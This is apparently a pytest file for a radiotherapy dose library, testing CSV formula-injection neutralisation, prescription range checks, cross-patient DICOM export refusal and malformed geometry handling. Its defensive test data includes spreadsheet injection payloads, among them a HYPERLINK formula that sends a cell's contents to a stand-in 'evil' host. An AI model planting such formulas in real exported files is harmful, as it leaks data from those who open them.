"""Issue #28, items 9-12: CSV formula injection, prescriptions outside 1-120 Gy, one patient's results in
another's DICOM study, and geometry that silently gave wrong results."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pydicom
import pytest

from cli_helpers import cli_error as _cli
from DoseSegLib.cli.main import main
from DoseSegLib.core.case import Case
from DoseSegLib.core.errors import DoseSegError
from DoseSegLib.core.names import NameMapper, check_prescription, parse_prescription
from DoseSegLib.io.patient import read_mask, write_volume
from DoseSegLib.io.tables import neutralise, write_csv

REPO = Path(__file__).resolve().parents[1]
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tx", "\r=1", "=1+2"]


# --- 9. CSV formula injection ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+1e-3", "-0", "-inf", "Brainstem", "PTV 70", "", "'=x", "a=b"])
def test_numbers_and_plain_text_are_kept(text: str) -> None:
    assert neutralise(text) == text


def test_every_csv_cell_is_neutralised_but_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [{"structure": f, "difference": -1.25, "text_number": "-7", f: "header"} for f in FORMULAS]
    write_csv(tmp_path / "t.csv", rows)
    with open(tmp_path / "t.csv", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _num(c))]
    assert "-1.25" in cells and "-7" in cells


def _num(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_only_the_table_writer_writes_csv() -> None:
    """The class: every CSV DoseSeg writes goes through io.tables.write_csv (the training log holds numbers)."""
    writers = [f.relative_to(REPO).as_posix() for f in (REPO / "DoseSegLib").rglob("*.py")
               if "csv.writer(" in f.read_text() or "DictWriter(" in f.read_text()]
    assert sorted(writers) == ["DoseSegLib/io/tables.py", "DoseSegLib/models/common/training_loop.py"]


def test_a_hostile_roi_name_reaches_no_csv_as_a_formula(phantom_dir: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture) -> None:
    """The issue's case: an ROI named ``=HYPERLINK(...)`` written as-is into dvh*.csv."""
    mask = read_mask(phantom_dir / "structures" / "Brainstem.nrrd")
    for name in ("=HYPERLINK(1)", "@SUM(A1)", "-cmd"):
        write_volume(phantom_dir / "structures" / f"{name}.nrrd", mask)
    out = tmp_path / "dvh"
    assert _cli(capsys, "dvh", phantom_dir, "-o", out)[0] == 0
    for table in out.glob("*.csv"):
        with open(table, newline="") as handle:
            for row in csv.reader(handle):
                assert not any(c.startswith(("=", "@", "+")) or (c.startswith("-") and not _num(c)) for c in row)


def test_merge_cohort_neutralises_what_a_shard_holds(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    shard = tmp_path / "shard-1"
    shard.mkdir()
    (shard / "cohort_summary.csv").write_text('patient,status,error\n"=HYPERLINK(""x"")",failed,@boom\n')
    assert _cli(capsys, "merge-cohort", shard, "-o", tmp_path / "merged")[0] == 1
    text = (tmp_path / "merged" / "cohort_summary.csv").read_text()
    assert "'=HYPERLINK" in text and "'@boom" in text


# --- 10. one prescription check for every source ---------------------------------------------------------------

@pytest.mark.parametrize("value", [0.6, 0, -70, 121, 199, 7000, float("nan"), "abc", None, True])
def test_check_prescription_refuses_what_is_not_a_dose(value: object) -> None:
    with pytest.raises(DoseSegError, match="not a dose from 1 to 120 Gy"):
        check_prescription(value, "test")


@pytest.mark.parametrize("value", [1, 45, 70.0, "59.4", 120])
def test_check_prescription_accepts_doses(value: object) -> None:
    assert check_prescription(value, "test") == float(value)


@pytest.mark.parametrize("source", ["option", "api mapper", "api options", "api case", "rtplan"])
@pytest.mark.parametrize("gy", [0.6, -70, 199, 7000])
def test_every_source_refuses_a_prescription_outside_1_to_120_gy(source: str, gy: float, tmp_path: Path) -> None:
    """The issue's cases: RTPLAN 199 Gy, 0.6 Gy, RunOptions(prescriptions={"PTV70": 7000}), -70."""
    from DoseSegLib.run.results import RunOptions, check_run_options

    with pytest.raises(DoseSegError, match="not a dose from 1 to 120 Gy"):
        if source == "option":
            parse_prescription(f"PTV_High={gy}")
        elif source == "api mapper":
            NameMapper(prescriptions={"PTV_High": gy})
        elif source == "api options":
            check_run_options(RunOptions(prescriptions={"PTV70": gy}))
        elif source == "api case":
            from DoseSegLib.io.phantom import make_phantom

            phantom = make_phantom()
            Case("p", phantom.ct, phantom.structures, prescriptions={"PTV70": gy})
        else:
            from DoseSegLib.io.dicom.rtplan import read_prescriptions

            ds = pydicom.Dataset()
            item = pydicom.Dataset()
            item.TargetPrescriptionDose, item.DoseReferenceType, item.ReferencedROINumber = gy, "TARGET", 1
            ds.DoseReferenceSequence = [item]
            ds.filename = "rtplan.dcm"
            read_prescriptions(ds, {1: "PTV70"})


def test_the_cli_refuses_a_prescription_outside_the_range(phantom_dir: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture) -> None:
    for value in ("0.6", "-70", "7000"):
        with pytest.raises(SystemExit):
            main(["align", str(phantom_dir), "-o", str(tmp_path / "o"), "--prescription", f"PTV70={value}"])
        assert "1 to 120 Gy" in capsys.readouterr().err


# --- 11. export-dicom refuses another patient's CT -------------------------------------------------------------

@pytest.fixture
def two_patients(tmp_path: Path) -> tuple[Path, Path, Path]:
    """Results computed on DICOM patient A (their rtdose.dcm), A's CT and patient B's CT."""
    from dicom_helpers import write_ct_series

    from DoseSegLib.io.dicom.results import write_dicom_results
    from DoseSegLib.io.phantom import make_phantom

    phantom = make_phantom(shape=(24, 24, 12))
    ct_a, ct_b = tmp_path / "ct_a", tmp_path / "ct_b"
    write_ct_series(ct_a, phantom.ct, patient_id="PATIENT-A")
    write_ct_series(ct_b, phantom.ct, patient_id="PATIENT-B")
    results = tmp_path / "results"
    results.mkdir()
    write_volume(results / "dose.nrrd", phantom.dose)
    write_dicom_results(results, ct_a, phantom.dose, {})
    return results, ct_a, ct_b


def test_export_dicom_refuses_results_of_another_patient(two_patients: tuple[Path, Path, Path], tmp_path: Path,
                                                         capsys: pytest.CaptureFixture) -> None:
    results, ct_a, ct_b = two_patients
    code, err = _cli(capsys, "export-dicom", results, "--ct", ct_b, "-o", tmp_path / "out_b")
    assert code == 1 and "PatientID PATIENT-A vs PATIENT-B" in err and "FrameOfReferenceUID" in err
    assert err.count("\n") == 1 and not (tmp_path / "out_b").exists()
    assert _cli(capsys, "export-dicom", results, "--ct", ct_a, "-o", tmp_path / "out_a")[0] == 0


def test_export_dicom_refuses_a_dose_off_the_ct(two_patients: tuple[Path, Path, Path], tmp_path: Path,
                                               capsys: pytest.CaptureFixture) -> None:
    """Results of an NRRD patient carry no DICOM identity: a dose nowhere on the CT is refused by its geometry."""
    from DoseSegLib.core.volume import Volume
    from DoseSegLib.io.patient import read_dose, write_dose

    results, ct_a, _ = two_patients
    (results / "rtdose.dcm").unlink()
    dose = read_dose(results / "dose.nrrd")
    write_dose(results / "dose.nrrd", Volume(dose.array, dose.spacing, tuple(np.asarray(dose.origin) + 5000),
                                             dose.direction))
    code, err = _cli(capsys, "export-dicom", results, "--ct", ct_a, "-o", tmp_path / "out")
    assert code == 1 and "dose.nrrd: no dose lies on the CT" in err and not (tmp_path / "out").exists()


# --- 12. geometry that gave silent wrong results ---------------------------------------------------------------

def _ct_file(folder: Path) -> Path:
    return sorted(folder.glob("*.dcm"))[0]


@pytest.mark.parametrize("keyword, value, expected", [
    ("ImagePositionPatient", ["nan", "0", "0"], "malformed ImagePositionPatient"),
    ("ImageOrientationPatient", ["1", "0", "0", "0", "0.8", "0"], "not two orthogonal unit vectors"),
    ("PixelSpacing", ["0", "1"], "PixelSpacing"),
    ("RescaleSlope", "abc", "RescaleSlope 'abc' is not a number"),
])
def test_a_bad_ct_slice_is_refused_naming_its_file(tmp_path: Path, keyword: str, value: object,
                                                  expected: str) -> None:
    from dicom_helpers import write_ct_series

    from DoseSegLib.io.dicom.detect import scan_folder
    from DoseSegLib.io.dicom.reader import ct_geometry
    from DoseSegLib.io.dicom.series import read_series
    from DoseSegLib.io.phantom import make_phantom

    folder = tmp_path / "ct"
    write_ct_series(folder, make_phantom(shape=(16, 16, 6)).ct)
    for path in sorted(folder.glob("*.dcm"))[: 1 if keyword in ("ImagePositionPatient", "RescaleSlope") else None]:
        ds = pydicom.dcmread(path)
        if keyword == "RescaleSlope":  # a value pydicom would not write: patched into the bytes
            ds[keyword].value = "1"
            ds.save_as(path)
            raw = path.read_bytes().replace(b"DS\x02\x001 ", b"DS\x04\x00abc ", 1)
            assert raw != path.read_bytes()
            path.write_bytes(raw)
        else:
            setattr(ds, keyword, value)
            ds.save_as(path)
    with pytest.raises(DoseSegError, match=expected) as error:
        read_series(ct_geometry(scan_folder(folder)))
    assert f"{folder}/CT" in str(error.value) and "\n" not in str(error.value)


def test_an_rtdose_with_a_non_unit_orientation_is_refused(tmp_path: Path) -> None:
    from dicom_helpers import write_ct_series

    from DoseSegLib.io.dicom.results import write_dicom_results
    from DoseSegLib.io.dicom.rtdose import read_rtdose
    from DoseSegLib.io.phantom import make_phantom

    phantom = make_phantom(shape=(16, 16, 6))
    write_ct_series(tmp_path / "ct", phantom.ct)
    path = write_dicom_results(tmp_path, tmp_path / "ct", phantom.dose, {})[0]
    ds = pydicom.dcmread(path)
    ds.ImageOrientationPatient = [1, 0, 0, 0, 0.79, 0]  # the issue's -21 % dose integral
    ds.save_as(path)
    with pytest.raises(DoseSegError, match=r"rtdose\.dcm: ImageOrientationPatient is not two orthogonal unit"):
        read_rtdose(path)


def test_a_nan_contour_point_drops_the_point_not_the_roi(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from DoseSegLib.io.dicom.rtstruct import read_rois

    ds = pydicom.Dataset()
    ds.filename = str(tmp_path / "rs.dcm")
    roi, contour, item = pydicom.Dataset(), pydicom.Dataset(), pydicom.Dataset()
    roi.ROINumber, roi.ROIName = 1, "Brainstem"
    contour.ContourGeometricType = "CLOSED_PLANAR"
    contour.ContourData = [0, 0, 0, 10, 0, 0, "nan", 0, 0, 10, 10, 0, 0, 10, 0]
    item.ReferencedROINumber, item.ContourSequence = 1, [contour]
    ds.StructureSetROISequence, ds.ROIContourSequence = [roi], [item]
    (rois,) = read_rois(ds)
    assert rois.contours[0].shape == (4, 3)
    assert "rs.dcm: ROI 'Brainstem': 1 contour point(s) with NaN" in caplog.text


def test_a_bad_roi_number_is_named(tmp_path: Path) -> None:
    from DoseSegLib.io.dicom.rtstruct import read_rois

    ds = pydicom.Dataset()
    ds.filename = "rs.dcm"
    roi = pydicom.Dataset()
    tag = pydicom.tag.Tag(0x30060022)  # ROINumber as a file holds it: raw bytes, converted on access
    roi[tag] = pydicom.dataelem.RawDataElement(tag, "IS", 4, b"abc ", 0, True, True)
    ds.StructureSetROISequence = [roi]
    with pytest.raises(DoseSegError, match=r"rs\.dcm: ROINumber 'abc' is not a whole number"):
        read_rois(ds)


def test_a_dose_far_from_the_ct_is_refused(phantom_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """The issue's case: ``align`` with the dose 5 m away wrote an all-zero dose without a word."""
    from DoseSegLib.io.patient import read_dose, write_dose

    dose = read_dose(phantom_dir / "dose.nrrd")
    write_dose(phantom_dir / "dose.nrrd", type(dose)(dose.array, dose.spacing,
                                                     tuple(np.asarray(dose.origin) + 5000), dose.direction))
    code, err = _cli(capsys, "align", phantom_dir, "-o", tmp_path / "out")
    assert code == 1 and f"{phantom_dir / 'dose.nrrd'}: the dose grid covers none of the structures" in err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("metric", ["D500%", "D100.5%[Gy]", "D-5%"])
def test_a_dose_to_more_than_the_whole_volume_is_refused(metric: str) -> None:
    """The issue's case: ``sensitivity`` accepted D500%."""
    from DoseSegLib.models.dose.sensitivity import differentiable_metric

    with pytest.raises(DoseSegError, match=r"x from 0 to 100|unknown metric"):
        differentiable_metric(metric)
